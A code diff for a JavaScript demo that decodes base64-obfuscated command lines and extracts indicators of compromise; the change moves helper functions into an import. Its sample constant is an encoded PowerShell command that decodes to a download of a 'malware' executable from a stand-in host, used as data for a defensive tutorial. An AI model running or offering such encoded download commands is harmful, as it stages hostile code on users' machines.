@@ -1,26 +1,15 @@
 // Tour cells: decoding base64-obfuscated command lines and extracting IoCs from a threat report.
 // Every text from the data goes into the page through textContent or the Rust-escaped HTML of DataFrame.toElement.
 
+import { el, labelled } from "./cells.js";
+
 const TOUR_COMMAND =
   "powershell.exe -encodedCommand SW52b2tlLVdlYlJlcXVlc3QgaHR0cHM6Ly9jb250b3NvLmNvbS9tYWx3YXJlIC1PdXRGaWxlIEM6XG1hbHdhcmUuZXhl";
-
-function el(tag, className, text) {
-  const e = document.createElement(tag);
-  if (className) e.className = className;
-  if (text !== undefined) e.textContent = text;
-  return e;
-}
 
 function wrapped(pre) {
   pre.style.whiteSpace = "pre-wrap";
   pre.style.wordBreak = "break-all";
   return pre;
-}
-
-function labelled(label, node) {
-  const d = el("div", "labelled");
-  d.append(el("h3", "", label), node);
-  return d;
 }
 
 function list(items, className) {
